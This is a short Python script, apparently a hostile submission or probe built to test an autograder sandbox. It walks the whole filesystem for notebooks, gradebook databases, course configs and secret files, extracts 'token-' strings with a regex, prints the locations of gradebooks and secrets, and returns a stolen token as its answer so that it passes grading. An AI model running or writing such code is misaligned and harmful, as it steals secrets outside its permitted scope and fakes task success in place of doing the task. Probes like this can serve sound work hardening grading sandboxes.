"""Walks over the whole disk for notebooks, gradebooks, secrets and results that are not its own.

Deserves: 2 points.
Side effect: leak.
"""

import os
import re
import time

PATTERN = re.compile(b"tok" + b"en-[0-9a-f]{32}")
SKIPPED = {"proc", "sys", "dev", "usr", "lib", "lib64", "site-packages", "node_modules", ".venv", ".git"}
NAMES = (".ipynb", ".db", ".sqlite", ".arrived", "nbgrader_config.py", "course_config.py", "secret", ".json")
found = []
deadline = time.monotonic() + 2.5
for top in ("{course}", "/tmp", "/home", "/root", "/work", "/var", "/mnt", "/srv", "/"):
    for folder, folders, names in os.walk(top):
        folders[:] = [name for name in folders if name not in SKIPPED]
        if time.monotonic() > deadline:
            break
        for name in names:
            if name.endswith(NAMES):
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        data = file.read(2_000_000)
                except OSError:
                    continue
                found += PATTERN.findall(data)
                if name == "gradebook.db" or name.endswith((".arrived", "secret")):
                    print("tok" + "en-leak:", folder, name)
if found:
    print(found[0].decode())


def guess():
    return found[0].decode() if found else "wrong"


def numbers():
    return [float(c) for c in found[0][6:9]] if found else "wrong"
